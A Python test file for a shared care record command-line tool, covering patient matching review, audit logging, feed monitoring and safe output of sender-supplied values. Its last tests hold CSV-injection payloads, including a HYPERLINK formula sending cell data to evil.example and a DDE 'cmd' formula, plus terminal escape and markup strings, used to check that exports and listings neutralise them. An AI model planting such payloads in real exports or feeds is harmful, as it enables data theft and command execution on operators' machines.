    feed = _twins_and_a_thin_record(tmp_path)
    runner.invoke(app, ["ingest", str(feed)])
    shown = runner.invoke(app, ["mpi", "review"], env={"COLUMNS": "400"})
    assert shown.exit_code == 0
    for text in ("1 uncertain pairs", "name: surname agrees, given name different", "dob: exact",
                 "never linked automatically: name disagree", "RXR/unknown", "no name and no date of birth"):
        assert text in shown.stdout
    pairs = [item for item in json.loads(runner.invoke(app, ["mpi", "review", "--json"]).stdout) if "id" in item]
    unsaid = runner.invoke(app, ["mpi", "decide", str(pairs[0]["id"]), "--decision", "separate"])
    assert unsaid.exit_code == 2 and "say why (--reason)" in unsaid.stderr
    assert runner.invoke(app, ["mpi", "decide", str(pairs[0]["id"]), "--decision", "separate",
                               "--reason", "twins"]).exit_code == 0
    assert runner.invoke(app, ["mpi", "relink", "--model-out", str(tmp_path / "m.json")]).exit_code == 0
    people = {r["source_id"]: r["person_id"] for r in csv.DictReader(io.StringIO(
        runner.invoke(app, ["mpi", "export"]).stdout))}
    assert len(set(people.values())) == 3


def test_mpi_review_lists_a_link_made_on_the_nhs_number_despite_different_given_names(
        env: Database, tmp_path: Path) -> None:
    feed = write_ndjson(tmp_path / "two.ndjson", [
        bundle("P81001", "emis", [patient("amy", "9434765919", "Jones", "Amy", "2001-04-05", gender="female")]),
        bundle("RXR", "epr", [patient("h-amy", "9434765919", "Jones", "Zara", "2001-04-05", gender="female")])])
    runner.invoke(app, ["ingest", str(feed)])
    assert len({r["person_id"] for r in csv.DictReader(io.StringIO(runner.invoke(app, ["mpi", "export"]).stdout))}) == 1
    shown = runner.invoke(app, ["mpi", "review"], env={"COLUMNS": "400"})
    assert shown.exit_code == 0
    for text in ("1 linked with a discrepancy", "LINKED: given names differ", "JONES, Amy", "JONES, Zara"):
        assert text in shown.stdout
    [item] = json.loads(runner.invoke(app, ["mpi", "review", "--json"]).stdout)
    assert item["linked"] and "NHS number, surname and date of birth agree" in item["discrepancy"]


def test_mpi_review_says_why_newborn_twins_without_given_names_were_not_linked(env: Database, tmp_path: Path) -> None:
    """The model alone would link them (surname, birth date, address); the reviewer reads the rule that held them."""
    feed = write_ndjson(tmp_path / "twins.ndjson", [
        bundle("RXR", "epr", [patient(f"t{n}", None, "Jones", f"Twin {n}", "2026-11-30", gender="female")])
        for n in (1, 2)])
    runner.invoke(app, ["ingest", str(feed)])
    shown = runner.invoke(app, ["mpi", "review"], env={"COLUMNS": "400"})
    assert shown.exit_code == 0
    assert "never linked automatically: neither record has a given name" in shown.stdout


def test_quarantine_check_counts_what_waits_without_saying_what_it_is_and_fails_past_the_service_level(
        env: Database, tmp_path: Path) -> None:
    runner.invoke(app, ["ingest", str(_feed(tmp_path))])  # one bundle held: an NHS number failing modulus 11
    fresh = runner.invoke(app, ["quarantine", "check", "--json"])
    assert fresh.exit_code == 0, fresh.output
    summary = json.loads(fresh.stdout)
    assert (summary["held"], summary["late_groups"]) == (1, 0)
    # the sender the bundle names (meta.source), without --source
    assert [(g["source"], g["format"], g["held"]) for g in summary["groups"]] == [("P81001", "fhir", 1)]
    assert "modulus" not in fresh.stdout and "line 2" not in fresh.stdout  # counts only: fit for a dashboard

    with env.session() as session:  # two days later, still not cleared
        session.execute(update(Quarantine).values(received_at=utcnow() - timedelta(days=2)))
    late = runner.invoke(app, ["quarantine", "check"])
    assert late.exit_code == 1 and "48" in late.stdout  # hours waited
    assert runner.invoke(app, ["quarantine", "check", "--older-than", "72"]).exit_code == 0


def test_feeds_shows_when_each_declared_source_last_sent_data_and_fails_when_one_goes_quiet(
        env: Database, tmp_path: Path) -> None:
    runner.invoke(app, ["ingest", str(_feed(tmp_path))])  # the practice's EMIS sends a Patient and a Condition
    result = runner.invoke(app, ["feeds", "--json"])
    rows = {(r["organisation"], r["system"]): r for r in json.loads(result.stdout)}
    emis = rows[("P81001", "emis")]
    assert (emis["last_day"], emis["stale"], emis["format"]) == (2, False, "fhir") and emis["hours_quiet"] == 0
    assert rows[("RXR", "pas")]["last_received"] is None and rows[("RXR", "pas")]["stale"]  # never heard from
    assert result.exit_code == 1  # a declared source has sent nothing: a monitor should notice

    with env.session() as session:  # two days on, the practice has sent nothing new
        session.execute(update(Resource).where(Resource.source_org == "P81001").values(
            received_at=utcnow() - timedelta(days=2)))
    later = {(r["organisation"], r["system"]): r for r in json.loads(runner.invoke(app, ["feeds", "--json"]).stdout)}
    assert later[("P81001", "emis")]["stale"] and later[("P81001", "emis")]["last_day"] == 0
    assert not {(r["organisation"], r["system"]): r for r in json.loads(
        runner.invoke(app, ["feeds", "--json", "--stale-after", "72"]).stdout)}[("P81001", "emis")]["stale"]
    table = runner.invoke(app, ["feeds"], env={"COLUMNS": "200"})
    assert "P81001" in table.stdout and "never" in table.stdout
    lines = {line.split()[1] + " " + line.split("│")[2].strip(): line for line in table.stdout.splitlines()
             if line.startswith("│")}
    assert "STALE" in lines["P81001 emis"] and "STALE" in lines["RXR pas"]  # in words, not only in red
    assert runner.invoke(app, ["feeds", "--stale-after", "72"], env={"COLUMNS": "200"}).stdout.count(" ok ") > 0

    with env.session() as session:  # the practice's feed starts naming another system than the framework's
        session.execute(update(Resource).where(Resource.source_org == "P81001").values(
            source_system="emisweb", received_at=utcnow()))
    named = {(r["organisation"], r["system"]): r for r in json.loads(runner.invoke(app, ["feeds", "--json"]).stdout)}
    assert named[("P81001", "emisweb")]["declared"] is False and not named[("P81001", "emisweb")]["stale"]
    assert named[("P81001", "emis")]["last_received"] is None and named[("P81001", "emis")]["declared"]


def _cli_entries(db: Database, action: str) -> list[dict[str, str]]:
    """The details of each audit entry of `action` written by the command line, oldest first."""
    from sqlalchemy import select

    from sharedcare.governance.access_log import details
    from sharedcare.store.models import AuditEntry

    with db.session() as s:
        return [details(e) for e in s.scalars(select(AuditEntry).where(
            AuditEntry.action == action, AuditEntry.username == "cli").order_by(AuditEntry.seq))]


def _told(db: Database, framework: Framework, person_id: str) -> list[tuple[str, str]]:
    """Who did what, each line of the person's "who looked at my record"."""
    with db.session() as s:
        return [(a.who, a.what) for a in accesses_of(s, framework, person_id).accesses]


TEAM = "The shared care record's technical team"


def test_mpi_review_is_audited_about_each_person_shown_and_each_is_told(
        env: Database, framework: Framework, tmp_path: Path) -> None:
    """The list shows the records' names and birth dates: audited once about each person shown, as the
    matching page is, naming the records, so each person's "who looked" says the technical team looked."""
    feed = _twins_and_a_thin_record(tmp_path)
    runner.invoke(app, ["ingest", str(feed)])
    shown = runner.invoke(app, ["mpi", "review"], env={"COLUMNS": "400"})
    assert shown.exit_code == 0 and "JONES, Amy" in shown.stdout
    with env.session() as s:
        ids = {source_id: (record, person) for source_id, record, person in s.execute(
            select(PatientRecord.source_id, PatientRecord.id, PatientRecord.person_id))}
        looks = s.scalars(select(AuditEntry).where(AuditEntry.action == "identity:mpi:review-view")).all()
    assert sorted(e.patient_id or "" for e in looks) == sorted(ids[r][1] for r in ("amy", "zoe", "unknown"))
    for look in map(details, looks):
        assert (look["pairs"], look["held"]) == ("1", "1")
        assert look["records"].split() == [str(ids[r][0]) for r in ("amy", "zoe", "unknown")]
    assert _told(env, framework, ids["amy"][1]) == [
        (TEAM, "looked at your details to check whether two records are the same person (a data quality check)")]


def test_an_audit_search_by_patient_is_audited_about_them_and_they_are_told(
        env: Database, framework: Framework, tmp_path: Path) -> None:
    runner.invoke(app, ["ingest", str(_feed(tmp_path))])
    with env.session() as s:
        person = s.scalars(select(PatientRecord.person_id).where(PatientRecord.source_id == "gp-1")).one()
    assert runner.invoke(app, ["audit", "search", "--patient", person]).exit_code == 0
    with env.session() as s:
        [search] = s.scalars(select(AuditEntry).where(AuditEntry.action == "governance:audit:search")).all()
    assert search.patient_id == person and details(search)["patient_id"] == person
    assert _told(env, framework, person) == [
        (TEAM, "looked at the list of who has seen your record (an information governance check)")]


def test_audit_search_is_audited_with_its_criteria_and_what_it_showed(env: Database) -> None:
    runner.invoke(app, ["agreements", "set", "NHR", "--status", "suspended", "--reason", "a breach reported"])
    runner.invoke(app, ["preferences", "set", "9434765919", "--object-org", "NHR"])
    found = json.loads(runner.invoke(app, ["audit", "search", "--user", "cli", "--json"]).stdout)
    assert len(found) == 2
    [search] = _cli_entries(env, "governance:audit:search")
    assert search == {"username": "cli", "entries": "2", "newest_seq": str(found[0]["seq"]),
                      "oldest_seq": str(found[1]["seq"])}
    shown = runner.invoke(app, ["audit", "search", "--user", "cli", "--limit", "1"]).stdout
    assert "Audit: 1 entries; more match than --limit 1" in shown  # the newest: the search above
    with env.session() as s:
        first, _ = s.scalars(select(AuditEntry.seq).where(AuditEntry.action == "governance:audit:search")
                             .order_by(AuditEntry.seq)).all()
    assert _cli_entries(env, "governance:audit:search")[-1] == {
        "username": "cli", "entries": "1", "newest_seq": str(first), "oldest_seq": str(first), "more": "true"}


def test_audit_export_is_audited_and_each_event_says_its_place_in_the_chain_and_whether_it_verified(
        env: Database, tmp_path: Path) -> None:
    """The whole log left in bulk with no trace (AU1), and an entry forged into it was exported as fact. The export
    is audited first, with the span it holds; each event carries its place in the chain (as the forwarder's copy)
    and whether it verified, and the forged one is told from its columns alone."""
    from fhir.resources.R4B.auditevent import AuditEvent

    from sharedcare.governance.audit_forward import CHAIN

    _write(env, 2)
    forged = _forged_after_head(env, _plain)
    (last,) = _write(env, 1)
    out = tmp_path / "audit.ndjson"
    done = runner.invoke(app, ["audit", "export", "--out", str(out)])
    assert done.exit_code == 0 and f"exported {last} audit events (entries 1-{last})" in done.stderr
    assert f"1 of them could not be verified (entries {forged})" in " ".join(done.stderr.split())
    [export] = _cli_entries(env, "governance:audit:export")
    assert {name: export[name] for name in ("entries", "first_seq", "last_seq", "to")} == {
        "entries": str(last), "first_seq": "1", "last_seq": str(last), "to": str(out)}
    events = [json.loads(line) for line in out.read_text().splitlines()]
    with env.session() as s:
        stored = {e.seq: (e.hash, e.prev_hash) for e in s.scalars(select(AuditEntry).where(AuditEntry.seq <= last))}
    chain = {}
    for event in events:
        AuditEvent.model_validate(event)
        [place] = [x["extension"] for x in event["extension"] if x["url"] == CHAIN]
        said = {x["url"]: next(v for k, v in x.items() if k.startswith("value")) for x in place}
        chain[said["seq"]] = (said["hash"], said["previous"], said["verified"])
    assert chain == {seq: (*hashes, seq != forged) for seq, hashes in stored.items()}
    lie = next(event for event in events if event["id"] == str(forged))
    assert [e["what"]["reference"] for e in lie["entity"]] == ["Patient/p-forged"]  # the column, no event's detail
    assert "purposeOfEvent" not in lie and lie["type"]["code"] == "clinical:record:read"


def test_audit_review_is_audited_naming_the_items_it_showed(env: Database, tmp_path: Path) -> None:
    """`audit review` lists who opened whose record and why: the look at it is audited (AU1), naming the items."""
    from sharedcare.governance.framework import load_framework
    from sharedcare.governance.gateway import GovernedRecords, actor_for

    runner.invoke(app, ["ingest", str(_feed(tmp_path))])
    person = next(csv.DictReader(io.StringIO(runner.invoke(app, ["mpi", "export"]).stdout)))["person_id"]
    fw = load_framework(FRAMEWORK_PATH)
    with env.session() as s:
        GovernedRecords(s, fw, actor_for(fw, "dr.oconnor")).record_basis(person, "emergency", "collapsed in A&E")
    items = json.loads(runner.invoke(app, ["audit", "review", "--json"]).stdout)
    assert runner.invoke(app, ["audit", "review", "--all"]).exit_code == 0
    shown, everything = _cli_entries(env, "governance:review:view")
    assert shown == {"items": str(len(items)), "review_items": " ".join(str(i["id"]) for i in items)}
    assert everything["closed_included"] == "true"


def test_an_ingest_run_stopped_part_way_is_audited_as_an_error_naming_what_stopped_it(
        env: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from sharedcare.ingest.pipeline import Pipeline

    def interrupted(*_: object, **__: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(Pipeline, "ingest_paths", interrupted)
    result = runner.invoke(app, ["ingest", str(_feed(tmp_path))])
    assert result.exit_code != 0
    with env.session() as s:
        (run,) = s.scalars(select(AuditEntry).where(AuditEntry.action == "clinical:record:write")).all()
        (started,) = s.scalars(select(AuditEntry).where(AuditEntry.action == "clinical:ingest:start")).all()
    assert (run.username, run.outcome, details(run)["stopped"], details(run)["files"]) == (
        "cli", "error", "KeyboardInterrupt", "1")
    assert details(run)["run"] == details(started)["run"] and started.seq < run.seq


def test_a_senders_markup_is_listed_literally_by_quarantine_list_ingest_and_mpi_review(
        env: Database, framework: Framework, tmp_path: Path) -> None:
    """`[/]` or `[black on black]` in a value a sender chose reaches the operator's screen as typed: it
    neither breaks the listing (Rich markup) nor restyles it. An escape sequence never reaches the store (fifth
    security review: refused at ingest, naming the element), and nothing listed holds one."""
    server = MllpServer(Pipeline(env, framework))
    ack = server.handle(results("MK1").replace("||5.9|mmol/L|", "||[/]|mmol/L|").encode(), "203.0.113.8:1")
    assert b"AE" in ack
    listed = runner.invoke(app, ["quarantine", "list"], env={"COLUMNS": "400"})
    assert listed.exit_code == 0, listed.output
    assert "'[/]' is not a number" in listed.stdout

    feed = write_ndjson(tmp_path / "markup.ndjson", [
        bundle("P81001", "emis", [patient("amy", "9434765919", "Jones", "[black on black]Amy", "2001-04-05",
                                          gender="female")]),
        bundle("RXR", "epr", [patient("h-amy", "9434765919", "Jones", "Zara[/]", "2001-04-05",
                                      gender="female")]),
        bundle("RXR", "epr", [patient("h-esc", "9434765919", "Jones", "Zara\x1b[8m", "2001-04-05", gender="female")]),
        bundle("P81001", "emis", [patient("gp-2", "1234567890", "Hughes [/]", "Margaret", "1952-06-11")])])
    ingested = runner.invoke(app, ["ingest", str(feed)], env={"COLUMNS": "400"})
    assert ingested.exit_code == 1 and "Traceback" not in ingested.output  # two quarantined, reported
    assert "control character U+001B" in ingested.output and "\x1b" not in ingested.output
    review = runner.invoke(app, ["mpi", "review"], env={"COLUMNS": "400"})
    assert review.exit_code == 0, review.output
    assert "JONES, [black on black]Amy" in review.stdout and "Zara[/]" in review.stdout
    assert "\x1b" not in review.stdout


def test_mpi_export_writes_a_senders_formula_as_text_a_spreadsheet_does_not_run(env: Database, tmp_path: Path) -> None:
    """A feed's source id is written as the feed sent it; one that starts as a formula would run when an operator
    opens the export in a spreadsheet, so it is written after a quote (OWASP, CSV injection)."""
    from tests.ingest.test_csv_extract import _extract, _lrc, _row

    formulas = ['=HYPERLINK("https://evil.example/?d="&A2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    _extract(_lrc(tmp_path), [_row(client_id=c, assessment_id=f"A{n}") for n, c in enumerate(["C1", *formulas])])
    assert runner.invoke(app, ["ingest", str(tmp_path)]).exit_code == 0
    result = runner.invoke(app, ["mpi", "export"])
    assert result.exit_code == 0
    written = sorted(r["source_id"] for r in csv.DictReader(io.StringIO(result.stdout)))
    assert written == sorted(["C1", *(f"'{f}" for f in formulas)])


def test_ingest_that_reads_nothing_of_what_was_given_exits_2_naming_the_skipped(env: Database, tmp_path: Path) -> None:
    notes = tmp_path / "P81001" / "gp-0001.txt"
    write_ndjson(notes, [bundle("P81001", "emis", [patient("gp-1", "9434765919", "Okafor", "Emeka", "1945-03-02")])])
    result = runner.invoke(app, ["ingest", str(notes)])
    assert result.exit_code == 2
    assert "nothing was read" in result.stderr and "gp-0001.txt" in result.stderr
    result = runner.invoke(app, ["ingest", "--format", "fhir", str(notes.parent)])
    assert result.exit_code == 0, result.stderr
